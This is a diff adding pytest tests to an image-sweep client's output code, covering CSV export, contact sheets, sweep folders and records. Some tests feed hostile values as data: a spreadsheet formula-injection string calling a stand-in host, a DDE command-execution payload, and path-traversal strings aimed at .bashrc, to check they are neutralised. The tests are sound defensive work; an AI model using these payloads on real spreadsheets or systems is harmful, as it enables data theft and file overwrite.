@@ -1,21 +1,30 @@
 """The files that show a sweep: tables, contact sheets, CSV, the page's data, and the request of the best."""
 
 import csv
+import errno
 import io
 import json
 import re
+from pathlib import Path
 
+import anyio
 import pytest
+from PIL import ImageFont
 from swept import PROMPTS, color_of, make_sweep, save_images
 
+from flux2_client.async_client import AsyncImage
+from flux2_client.models import SweepResult, SweepStatus
+from flux2_client.report import open_report
 from flux2_client.sweeps import labelled_sheet
 from flux2_client.sweeps.best import best_request, read_pick
-from flux2_client.sweeps.folder import name_files, read_sweep, require_folder_for, write_outputs
+from flux2_client.sweeps.folder import holds_sweep, name_files, read_sweep, write_outputs, write_record
 from flux2_client.sweeps.grid import arrange
 from flux2_client.sweeps.labelled_sheet import draw_sheets
 from flux2_client.sweeps.sweep_csv import sweep_csv
+from flux2_client.sweeps.sweep_following import follow_sweep
+from flux2_client.sweeps.sweep_submission import default_folder
 from flux2_client.sweeps.viewer_page import describe_sweep
-from shared.errors import OutputRefused, SweepFolderRefused
+from shared.errors import ApiError, OutputRefused, SweepFolderRefused
 
 
 def numbers(sweep, block):
@@ -142,6 +151,17 @@ def test_the_table_has_a_row_for_each_image_with_its_values_and_its_file(tmp_pat
     assert (last["status"], last["error"]) == ("failed", "it <broke>")
 
 
+def test_no_cell_of_the_table_begins_as_a_formula():
+    hostile = '=HYPERLINK("http://a.example/"&A1)'
+    sweep = make_sweep(checkpoints=(hostile,), multipliers=(-0.5,), prompts=["-1+cmd|' /C calc'!A0"])
+
+    [row] = csv.DictReader(io.StringIO(sweep_csv(sweep)))
+
+    assert (row["checkpoint"], row["prompt"]) == (f"'{hostile}", "'-1+cmd|' /C calc'!A0")
+    # A number is none, even below zero.
+    assert row["multiplier"] == "-0.5"
+
+
 def test_the_page_holds_every_image_and_nothing_of_a_prompt_becomes_markup(tmp_path):
     sweep = save_images(make_sweep(failed=[6]), tmp_path)
 
@@ -185,14 +205,102 @@ def test_an_image_that_was_removed_is_named(tmp_path):
         write_outputs(sweep, tmp_path)
 
 
+class HostileClient:
+    """Answers with a sweep whose images have a format that leads elsewhere; records where they are saved."""
+
+    format = "/../../../.bashrc"
+
+    def __init__(self):
+        self.saved = []
+
+    async def sweep_result(self, sweep_id):
+        body = make_sweep(checkpoints=("..", "base")).model_dump()
+        for cell in body["cells"]:
+            cell["image"]["format"] = self.format
+        result = SweepResult[AsyncImage].model_validate({**body, "sweep_id": sweep_id})
+        for image in result.images:
+            image.bind(self, request_id=sweep_id)
+        return result
+
+    async def wait_sweep(self, sweep_id, *, on_status):
+        return SweepStatus(
+            sweep_id=sweep_id,
+            status="succeeded",
+            model="flux2",
+            images=6,
+            counts={"succeeded": 6},
+            progress=1,
+            created_at="2026-01-01T00:00:00Z",
+            jobs=(),
+        )
+
+    async def save(self, image, path):
+        self.saved.append(path)
+
+
+class StoppedClient(HostileClient):
+    """Answers with a sweep, and stops waiting for it."""
+
+    format = "png"
+
+    async def wait_sweep(self, sweep_id, *, on_status):
+        raise ApiError("stopped")
+
+
+def test_no_answer_leads_out_of_the_folder(tmp_path):
+    client = HostileClient()
+
+    async def follow():
+        with open_report(as_json=True) as report:
+            return await follow_sweep(client, "a", tmp_path / "out", parallel=1, report=report)
+
+    anyio.run(follow)
+
+    assert client.saved
+    assert {path.resolve().parent for path in client.saved} == {tmp_path / "out" / "images"}
+    for sweep_id in ("/../../x", "../../..", "..\\..\\", ""):
+        assert re.fullmatch(r"sweep-\w+", str(default_folder(sweep_id)))
+
+
 def test_a_folder_keeps_to_one_sweep(tmp_path):
     sweep = save_images(make_sweep(), tmp_path)
-    require_folder_for("another", tmp_path)
+    assert not holds_sweep(tmp_path, "another")
     write_outputs(sweep, tmp_path)
 
-    require_folder_for(sweep.sweep_id, tmp_path)
+    assert holds_sweep(tmp_path, sweep.sweep_id)
     with pytest.raises(OutputRefused, match="holds the sweep 0123456789abcdef; choose another --output"):
-        require_folder_for("another", tmp_path)
+        holds_sweep(tmp_path, "another")
+
+
+def test_a_record_that_cannot_be_written_leaves_the_one_before(tmp_path, monkeypatch):
+    sweep = make_sweep()
+    write_record(sweep, tmp_path)
+
+    def fill_the_disk(path, data):
+        with path.open("wb") as file:
+            file.write(data[:100])
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(Path, "write_bytes", fill_the_disk)
+    with pytest.raises(OutputRefused, match="No space left"):
+        write_record(sweep.model_copy(update={"status": "failed"}), tmp_path)
+
+    assert read_sweep(tmp_path) == sweep
+
+
+def test_a_watch_that_is_stopped_leaves_what_the_folder_says_of_its_files(tmp_path):
+    client = StoppedClient()
+    sweep = save_images(make_sweep(), tmp_path)
+    write_record(sweep, tmp_path)
+
+    async def follow():
+        with open_report(as_json=True) as report:
+            return await follow_sweep(client, sweep.sweep_id, tmp_path, parallel=1, report=report)
+
+    with pytest.raises(ApiError, match="stopped"):
+        anyio.run(follow)
+
+    assert read_sweep(tmp_path) == sweep
 
 
 def test_the_best_becomes_a_request_with_the_prompts_and_seeds_of_the_sweep(tmp_path):
@@ -273,6 +381,26 @@ def test_a_folder_without_a_sweep_is_refused_with_advice(text, tmp_path):
 
     with pytest.raises(SweepFolderRefused, match="flux2 sweep"):
         read_sweep(tmp_path)
+
+
+def test_labels_of_long_prompts_are_measured_by_their_beginnings(tmp_path, monkeypatch):
+    measured = []
+    measure = ImageFont.FreeTypeFont.getlength
+
+    def count(font, text, *arguments, **options):
+        measured.append(len(text))
+        return measure(font, text, *arguments, **options)
+
+    monkeypatch.setattr(ImageFont.FreeTypeFont, "getlength", count)
+    sweep = save_images(
+        make_sweep(multipliers=(1.0,), checkpoints=("a",), prompts=["word " * 600, "b" * 3000]), tmp_path
+    )
+
+    [_] = draw_sheets(sweep, tmp_path)
+
+    # One line of each label, of 192 pixels.
+    assert max(measured) <= 192
+    assert len(measured) < 100
 
 
 def test_a_sheet_shows_long_labels_and_prompts_cut_to_their_places(tmp_path):
